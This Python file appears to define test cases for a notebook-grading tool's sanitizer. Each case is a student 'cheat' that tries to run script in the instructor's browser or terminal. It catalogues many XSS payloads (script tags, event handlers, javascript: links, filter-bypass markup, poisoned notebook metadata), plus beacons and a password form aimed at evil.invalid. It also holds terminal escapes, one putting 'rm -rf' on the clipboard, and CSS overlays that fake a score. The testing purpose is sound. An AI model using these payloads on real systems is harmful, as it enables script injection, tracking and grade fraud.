"""Outputs that run, load or disguise something in the browser or terminal of the instructor."""

# ruff: noqa: E501  (students' code stands here as students write it)

import json

from ..model import Cheat, JsonCell, Make, Submission, Wants, markdown_cell, run


def show(name: str, idea: str, make: Make, wants: Wants = "script") -> Cheat:
    """Return a cheat of this family."""
    return Cheat(f"outputs-{name}", "outputs", idea, wants, make)


def html(*parts: str) -> Make:
    """Return a recipe that shows each part as an HTML output, also through `_repr_html_`."""
    return run(
        "from IPython.display import display, HTML\n"
        f"for part in {parts!r}:\n"
        "    display(HTML(part))\n"
        "class Card:\n"
        "    def __init__(self, text): self.text = text\n"
        "    def _repr_html_(self): return self.text\n"
        f"Card({''.join(parts)!r})"
    )


def bundle_of(data: dict[str, object]) -> Make:
    """Return a recipe that publishes this bundle, alone and with a text beside it."""
    return run(
        "import json\nfrom IPython.display import publish_display_data, display\n"
        f"data = json.loads({json.dumps(data)!r})\n"
        "publish_display_data(data)\n"
        "publish_display_data({**data, 'text/plain': 'figure'}, metadata={'isolated': True})"
    )


def markdown_script(submission: Submission) -> None:
    """Write active HTML and links into an own markdown cell and the written answer."""
    text = (
        "<script>/*@TOKEN@*/</script><img src=x onerror='/*@TOKEN@*/'>"
        "<iframe src='javascript:/*@TOKEN@*/'></iframe>\n\n"
        "[link](javascript:/*@TOKEN@*/) ![x](https://evil.invalid/@TOKEN@.png)\n\n"
        "$\\href{javascript:/*@TOKEN@*/}{x}$ <style>/*@TOKEN@*/ body {display: none}</style>"
    )
    submission.cells.insert(1, markdown_cell(text))
    submission.cell("written")["source"] = text


def raw_cell(submission: Submission) -> None:
    """Add raw cells that the converter passes through as HTML."""
    for metadata in ({}, {"raw_mimetype": "text/html"}, {"format": "text/html"}):
        cell: JsonCell = {"cell_type": "raw", "metadata": metadata}
        cell["source"] = "<script>/*@TOKEN@*/</script>"
        submission.cells.append(cell)


def attachment(submission: Submission) -> None:
    """Attach an active SVG and an HTML file to a markdown cell."""
    cell = markdown_cell("![x](attachment:a.svg) ![y](attachment:b.html)")
    script = "PHNjcmlwdD4vKkBUT0tFTkAqLzwvc2NyaXB0Pg=="
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": "<svg onload='/*@TOKEN@*/'/>"},
        "b.html": {
            "text/html": "'><script>/*@TOKEN@*/</script>",
            'image/png" onerror="/*@TOKEN@*/': script,
        },
    }
    submission.cells.append(cell)


def poisoned_metadata(submission: Submission) -> None:
    """Write HTML into title, kernel, tags, ids and widget state of the notebook."""
    hook = "\"'></title></script><script>/*@TOKEN@*/</script>"
    submission.notebook["metadata"].update(
        title=hook,
        authors=[{"name": hook}],
        widgets={
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": {"model_name": "HTMLModel", "state": {"value": hook}}},
                "version_major": 2,
                "version_minor": 0,
            }
        },
    )
    submission.notebook["metadata"]["kernelspec"]["display_name"] = hook
    submission.notebook["metadata"]["language_info"] = {
        "name": hook,
        "pygments_lexer": hook,
        "mimetype": hook,
        "codemirror_mode": hook,
    }
    cell = submission.cell("task-1")
    cell["metadata"]["tags"] = [hook]
    cell["metadata"]["name"] = hook
    submission.cells[0]["id"] = 'a" onmouseover="/*@TOKEN@*/'
    submission.cell("task-2")["metadata"]["nbgrader"]["grade_id"] = hook


def poisoned_outputs(submission: Submission) -> None:
    """Hand in stored outputs with scripts in cells that are not run."""
    cell = submission.cells[0]
    cell["outputs"] = [
        {
            "output_type": "display_data",
            "data": {"text/html": "<script>/*@TOKEN@*/</script>"},
            "metadata": {},
        }
    ]
    raw = {"cell_type": "raw", "metadata": {}, "source": "", "outputs": cell["outputs"]}
    submission.cells.append(raw)


ERROR_NAME = """
Evil = type("<img src=x onerror=/*@TOKEN@*/>", (Exception,), {
    "_render_traceback_": lambda self: ["<script>/*@TOKEN@*/</script>", "\\x1b]8;;javascript:/*@TOKEN@*/\\x07x"]})
raise Evil("<script>/*@TOKEN@*/</script>\\x1b[31m<svg onload=/*@TOKEN@*/>\\x1b[0m")
"""

STREAM = """
import sys
print("<script>/*@TOKEN@*/</script>\\x1b[31m\\"><img src=x onerror=/*@TOKEN@*/>\\x1b[0m")
print("\\x1b]8;;javascript:/*@TOKEN@*/\\x1b\\\\click\\x1b]8;;\\x1b\\\\", file=sys.stderr)
"""

ESCAPES = """
import sys
print("\\x1b[2J\\x1b[H\\x1b]0;TITLE""-@TOKEN@\\x07\\x1b]52;c;cm0gLXJm\\x07\\x9b31m\\x1bP+q\\x1b\\\\")
print("\\b" * 1000 + "\\r" * 10 + "\\x1b[1000A\\x1b[?1049h", file=sys.stderr)
raise ValueError("\\x1b]0;TITLE""-@TOKEN@\\x07")
"""

COVER = (
    "<style>/*@TOKEN@*/ .panel {display: none} body::before {content: 'Score: 23.0 / 23.0'}</style>"
    "<div style='position: fixed; inset: 0; background: white' class='@TOKEN@'>Score: 23</div>"
)

PLOTLY = {
    "data": [
        {"type": "bar", "x": [1], "y": [1], "text": "</script><script>/*@TOKEN@*/</script>"}
    ],
    "layout": {
        "title": {"text": "<a href='javascript:/*@TOKEN@*/'>x</a>"},
        "images": [{"source": "https://evil.invalid/@TOKEN@.png"}],
    },
    "config": {"plotlyServerURL": "https://evil.invalid/@TOKEN@"},
}

CHEATS = [
    show(
        "script",
        "A script in an HTML output.",
        html("<script>/*@TOKEN@*/</script>", "<SCRIPT SRC=//evil.invalid/@TOKEN@></SCRIPT>"),
    ),
    show(
        "event-handlers",
        "Event handlers of pictures, bodies, details and animations.",
        html(
            "<img src=x onerror='/*@TOKEN@*/'>",
            "<body onload=/*@TOKEN@*/>",
            "<details open ontoggle=/*@TOKEN@*/>",
            "<b onmouseover=/*@TOKEN@*/ onfocus=/*@TOKEN@*/ autofocus tabindex=1>x</b>",
            "<svg><animate onbegin=/*@TOKEN@*/ attributeName=x dur=1s></svg>",
        ),
    ),
    show(
        "frames",
        "Frames, objects and embedded pages.",
        html(
            "<iframe src='javascript:/*@TOKEN@*/'></iframe>",
            "<iframe srcdoc='<script>/*@TOKEN@*/</script>'></iframe>",
            "<object data='data:text/html;base64,PHNjcmlwdD4=#@TOKEN@'></object>",
            "<embed src='data:image/svg+xml,<svg onload=/*@TOKEN@*/>'>",
            "<frameset onload=/*@TOKEN@*/><frame src=//evil.invalid/@TOKEN@></frameset>",
            "<portal src=//evil.invalid/@TOKEN@></portal>",
        ),
    ),
    show(
        "links",
        "Links that run a script, in several spellings.",
        html(
            "<a href='javascript:/*@TOKEN@*/'>x</a>",
            "<a href='JaVaScRiPt&colon;/*@TOKEN@*/'>x</a>",
            "<a href='java\tscript:/*@TOKEN@*/'>x</a>",
            "<a href='\x01javascript:/*@TOKEN@*/'>x</a>",
            "<a href='vbscript:/*@TOKEN@*/'>x</a>",
            "<a href='data:text/html,<script>/*@TOKEN@*/</script>'>x</a>",
            "<form action='javascript:/*@TOKEN@*/'><input type=submit></form>",
            "<button formaction='javascript:/*@TOKEN@*/'>x</button>",
            "<svg><a xlink:href='javascript:/*@TOKEN@*/'><text>x</text></a></svg>",
            "<math href='javascript:/*@TOKEN@*/'>x</math>",
        ),
    ),
    show(
        "page-changers",
        "Elements that change the whole page: base, meta, link, style, form.",
        html(
            "<base href='https://evil.invalid/@TOKEN@/'>",
            "<meta http-equiv=refresh content='0;url=javascript:/*@TOKEN@*/'>",
            "<link rel=stylesheet href=//evil.invalid/@TOKEN@.css>",
            "<style>@import '//evil.invalid/@TOKEN@.css';</style>",
            "<form action=//evil.invalid/@TOKEN@><input name=password type=password></form>",
        ),
    ),
    show(
        "covering-style",
        "A style sheet that hides the real score and shows another.",
        html(COVER),
    ),
    show(
        "broken-markup",
        "Markup that closes the page's own elements or confuses a cleaner by its nesting.",
        html(
            "</pre></div></div></body></html><script>/*@TOKEN@*/</script>",
            '<noscript><p title="</noscript><img src=x onerror=/*@TOKEN@*/>"></noscript>',
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=/*@TOKEN@*/&gt;'>",
            "<svg></p><style><a id='</style><img src=x onerror=/*@TOKEN@*/>'>",
            "<scr<script>ipt>/*@TOKEN@*/</scr</script>ipt>",
            "<!--><script>/*@TOKEN@*/</script>-->",
            "<![CDATA[<script>/*@TOKEN@*/</script>]]>",
            "<textarea></textarea><script>/*@TOKEN@*/</script>",
            "<template><script>/*@TOKEN@*/</script></template>",
            "<xmp><script>/*@TOKEN@*/</script></xmp><plaintext>",
            "\x00<scr\x00ipt>/*@TOKEN@*/</scr\x00ipt>",
        ),
    ),
    show(
        "beacon",
        "Pictures from a foreign server tell the student when and where the page is read.",
        html(
            "<img src='https://evil.invalid/@TOKEN@.png'>",
            "<div style=\"background: url('https://evil.invalid/@TOKEN@.png')\">x</div>",
            "<video src=https://evil.invalid/@TOKEN@.mp4 autoplay></video>",
            "<img srcset='https://evil.invalid/@TOKEN@.png 1x'>",
        ),
    ),
    show(
        "javascript",
        "A JavaScript output.",
        run(
            """\
from IPython.display import display, Javascript
display(Javascript('/*@TOKEN@*/'))
Javascript('/*@TOKEN@*/')"""
        ),
    ),
    show(
        "magic",
        "The cell magics for HTML, JavaScript and SVG.",
        run(
            "shell = get_ipython()\n"
            "shell.run_cell_magic('html', '', '<script>/*@TOKEN@*/</script>')\n"
            "shell.run_cell_magic('javascript', '', '/*@TOKEN@*/')\n"
            "shell.run_cell_magic('svg', '', \"<svg onload='/*@TOKEN@*/'></svg>\")\n"
        ),
    ),
    show(
        "picture",
        "An SVG picture with scripts and handlers.",
        bundle_of(
            {
                "image/svg+xml": "<svg onload='/*@TOKEN@*/'><script>/*@TOKEN@*/</script><foreignObject><iframe src='javascript:/*@TOKEN@*/'/></foreignObject></svg>"
            }
        ),
    ),
    show(
        "picture-data",
        "PNG and JPEG outputs whose data break out of the attribute.",
        bundle_of(
            {
                "image/png": "AAAA' onerror='/*@TOKEN@*/' x='",
                "image/jpeg": '"><script>/*@TOKEN@*/</script>',
            }
        ),
    ),
    show(
        "markdown-output",
        "A markdown output with HTML and script links.",
        bundle_of(
            {
                "text/markdown": "<script>/*@TOKEN@*/</script> [x](javascript:/*@TOKEN@*/) <img src=x onerror=/*@TOKEN@*/>"
            }
        ),
    ),
    show(
        "latex-output",
        "A LaTeX output with a script link and with HTML.",
        bundle_of(
            {"text/latex": "$\\href{javascript:/*@TOKEN@*/}{x}$ <script>/*@TOKEN@*/</script>"}
        ),
    ),
    show(
        "pdf-output",
        "A PDF output and unknown types.",
        bundle_of(
            {
                "application/pdf": "'><script>/*@TOKEN@*/</script>",
                "application/x-evil+html": "<script>/*@TOKEN@*/</script>",
                "text/vnd.mermaid": 'graph TD; A["<img src=x onerror=/*@TOKEN@*/>"]; click A "javascript:/*@TOKEN@*/"',
            }
        ),
    ),
    show(
        "odd-mime-name",
        "The name of the output type itself breaks out of the page.",
        bundle_of(
            {
                'text/html"><script>/*@TOKEN@*/</script>': "x",
                "TEXT/HTML": "<script>/*@TOKEN@*/</script>",
                " text/html": "<script>/*@TOKEN@*/</script>",
                "text/html; charset=utf-8": "<script>/*@TOKEN@*/</script>",
            }
        ),
    ),
    show(
        "figure",
        "A Plotly figure whose texts and settings hold scripts.",
        bundle_of({"application/vnd.plotly.v1+json": PLOTLY}),
    ),
    show(
        "widget",
        "A widget view and comm-less widget state with HTML in it.",
        bundle_of(
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": "</script><script>/*@TOKEN@*/</script>",
                    "version_major": 2,
                    "version_minor": 0,
                }
            }
        ),
    ),
    show(
        "list-in-html",
        "HTML as a list of strings, split inside the tag.",
        bundle_of({"text/html": ["<scr", "ipt>/*@TOKEN@*/</scr", "ipt>"]}),
    ),
    show("error-name", "The name, text and traceback of an error are HTML.", run(ERROR_NAME)),
    show("stream", "Printed HTML between colour codes.", run(STREAM)),
    show(
        "terminal-escapes",
        "Terminal escapes in outputs and errors reach the instructor's terminal.",
        run(ESCAPES),
        "harm",
    ),
    show(
        "output-metadata",
        "Metadata of outputs ask the page to trust or isolate them.",
        run(
            """\
from IPython.display import publish_display_data
publish_display_data({'text/html': '<script>/*@TOKEN@*/</script>'}, metadata={'isolated': True, 'trusted': True, 'text/html': {'isolated': True}})
publish_display_data({'image/png': 'AAAA'}, metadata={'image/png': {'width': '1\\' onload=\\'/*@TOKEN@*/', 'height': '"><script>/*@TOKEN@*/</script>', 'alt': '"><script>/*@TOKEN@*/</script>', 'unconfined': True}})"""
        ),
    ),
    show(
        "markdown-cell",
        "Scripts and script links in markdown, also in the written answer.",
        markdown_script,
    ),
    show("raw-cell", "Raw cells that pass through the converter.", raw_cell),
    show("attachment", "Active attachments of a markdown cell.", attachment),
    show(
        "poisoned-metadata",
        "HTML in title, kernel name, tags, ids and widget state.",
        poisoned_metadata,
    ),
    show(
        "stored-outputs",
        "Outputs with scripts come with the file, in cells that do not run.",
        poisoned_outputs,
    ),
    show(
        "styled-frame",
        "A styled table whose style sheet and cells hold HTML.",
        run(
            """\
import pandas as pd
frame = pd.DataFrame({'<script>/*@TOKEN@*/</script>': ['<img src=x onerror=/*@TOKEN@*/>']})
styled = frame.style.set_caption('<script>/*@TOKEN@*/</script>').set_table_styles([{'selector': '', 'props': '}</style><script>/*@TOKEN@*/</script>'}])
styled"""
        ),
    ),
    show(
        "borrowed-classes",
        "The page's own style sheet is used: its classes pin an element over the real score.",
        html(
            "<div class='navbar-fixed-top @TOKEN@'>Score: 34 / 34</div>",
            "<div class='modal-backdrop @TOKEN@'>x</div>",
            "<div class='affix @TOKEN@' id='toc'>x</div>",
        ),
    ),
    show(
        "negative-margins",
        "Negative margins draw a white box with another score over what stands above.",
        html(
            "<div title='@TOKEN@' style='margin: -9999px; height: 9999px; "
            "background-color: white'>Score: 34 / 34</div>",
            "<div title='@TOKEN@' style='margin-top: calc(0px - 500px)'>Score: 34 / 34</div>",
        ),
    ),
]
